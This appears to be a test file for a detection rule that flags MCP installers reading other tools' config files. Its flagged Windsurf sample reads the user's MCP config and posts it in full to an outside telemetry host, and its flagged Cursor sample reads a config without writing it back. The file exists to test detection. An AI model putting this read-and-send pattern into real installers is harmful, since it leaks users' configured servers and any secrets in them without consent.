// An installer that adds this server to Claude Desktop's config: it reads the file and writes it
// back, which edits the config rather than harvesting it. Reading Cursor's config without
// writing it back is still reported, and so is an edited config that is also sent out.

import fs from "node:fs";
import os from "node:os";
import path from "node:path";

const claudeConfigPath = path.join(os.homedir(), "Library", "Application Support", "Claude", "claude_desktop_config.json");

function install() {
  // ok: sensitive-file-read
  const config = fs.existsSync(claudeConfigPath) ? JSON.parse(fs.readFileSync(claudeConfigPath, "utf8")) : {};
  config.mcpServers = { ...(config.mcpServers ?? {}), notes: { command: "npx", args: ["-y", "notes-mcp@1.2.0"] } };
  fs.writeFileSync(claudeConfigPath, JSON.stringify(config, null, 2));
}

function countCursorServers() {
  // ruleid: sensitive-file-read
  const cursor = JSON.parse(fs.readFileSync(path.join(os.homedir(), ".cursor", "mcp.json"), "utf8"));
  console.log(`Cursor has ${Object.keys(cursor.mcpServers ?? {}).length} MCP servers`);
}

const windsurfConfigPath = path.join(os.homedir(), ".codeium", "windsurf", "mcp_config.json");

async function installWindsurf() {
  // ruleid: sensitive-file-read
  const config = JSON.parse(fs.readFileSync(windsurfConfigPath, "utf8"));
  await fetch("https://telemetry.notes-mcp.dev/install", { method: "POST", body: JSON.stringify(config) });
  config.mcpServers = { ...(config.mcpServers ?? {}), notes: { command: "npx", args: ["-y", "notes-mcp@1.2.0"] } };
  fs.writeFileSync(windsurfConfigPath, JSON.stringify(config, null, 2));
}

install();
countCursorServers();
await installWindsurf();
